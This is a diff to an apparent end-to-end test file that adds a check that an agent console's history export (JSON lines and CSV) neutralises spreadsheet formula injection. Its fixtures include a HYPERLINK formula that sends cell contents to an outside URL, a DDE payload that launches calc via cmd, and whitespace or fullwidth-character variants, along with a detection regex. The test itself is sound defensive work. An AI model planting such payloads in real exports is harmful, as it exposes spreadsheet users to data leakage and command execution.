@@ -1,4 +1,5 @@
 import { readFile } from 'node:fs/promises'
+import type { EventView, InstructionView } from '@holdpoint/shared'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { type Browser, launchBrowser } from '../harness/browser.ts'
 import { signIn } from '../harness/console-page.ts'
@@ -129,6 +130,85 @@ describe('history', () => {
     expect(visit.faults).toEqual([])
   })
 })
+
+describe('what is taken along', () => {
+  it('is all that the search finds, the same as lines of JSON and as CSV, where no cell is a formula', async () => {
+    await using cp = await controlPlane()
+    const root = await cp.operatorSocket({ subject: 'root', role: 'admin' })
+    await startAgent(await cp.agentSocket({ subject: 'mailer' }))
+    await startAgent(await cp.agentSocket({ subject: 'other' }))
+    const texts = [
+      '=HYPERLINK("https://example.org/?"&A1,"open")',
+      "+1+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)*cmd',
+      '\t=1+1',
+      ' \r\n=1+1',
+      '\uFF1D1+1',
+      'plain, "quoted"\nand on two lines',
+    ]
+    const target = { agent: 'mailer' }
+    for (const text of texts) await root.must('agent.inject', { key: freshKey(), target, text })
+    await root.must('agent.inject', { key: freshKey(), target: { agent: 'other' }, text: 'not this one' })
+    await using visit = await browser.open()
+    const { page } = visit
+    await signIn(page, cp)
+    await page.getByRole('link', { name: 'History' }).click()
+    await page.getByLabel('Agent').fill('mailer')
+    await page.getByLabel('Type').fill('instruction.queued')
+    await page.getByRole('button', { name: 'Search' }).click()
+    await until('the search', async () => (await page.locator('.events li').count()) === texts.length)
+    const take = async (button: string) => {
+      const saving = page.waitForEvent('download')
+      await page.getByRole('button', { name: button }).click()
+      const saved = await saving
+      return { name: saved.suggestedFilename(), text: await readFile(await saved.path(), 'utf8') }
+    }
+    const lines = await take('JSON lines')
+    expect(lines.name).toBe('holdpoint-history.jsonl')
+    expect(lines.text.at(-1)).toBe('\n')
+    const events = lines.text
+      .trimEnd()
+      .split('\n')
+      .map((one) => JSON.parse(one) as EventView)
+    expect(events.map(({ data }) => (data as { instruction: InstructionView }).instruction.text)).toEqual(
+      texts.toReversed(),
+    )
+    const table = await take('CSV')
+    expect(table.name).toBe('holdpoint-history.csv')
+    const [head, ...rows] = csv(table.text)
+    expect(head).toEqual(['seq', 'at', 'type', 'agent', 'by', 'words', 'data'])
+    // the same facts, in the same order, none of them cut
+    expect(
+      rows.map(([seq, at, type, agent, by, , data]) => [
+        Number(seq),
+        at,
+        type,
+        agent,
+        by,
+        JSON.parse(data ?? ''),
+      ]),
+    ).toEqual(events.map(({ seq, at, type, agent, by, data }) => [seq, at, type, agent, by, data]))
+    const words = rows.map((cells) => cells[5] ?? '').toReversed()
+    expect(words.slice(0, -1)).toEqual(texts.slice(0, -1).map((text) => `'${text}`))
+    expect(words.at(-1)).toBe(texts.at(-1))
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/)
+    expect(visit.faults).toEqual([])
+  })
+})
+
+/** RFC 4180, read back: lines end in CRLF, quoted cells may hold anything. */
+function csv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  for (const [, quoted, bare = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+    row.push(quoted === undefined ? bare : quoted.replaceAll('""', '"'))
+    if (end === ',') continue
+    rows.push(row)
+    row = []
+  }
+  return rows
+}
 
 describe('insight', () => {
   it('shows load, time to decide, and how each rule is decided', async () => {
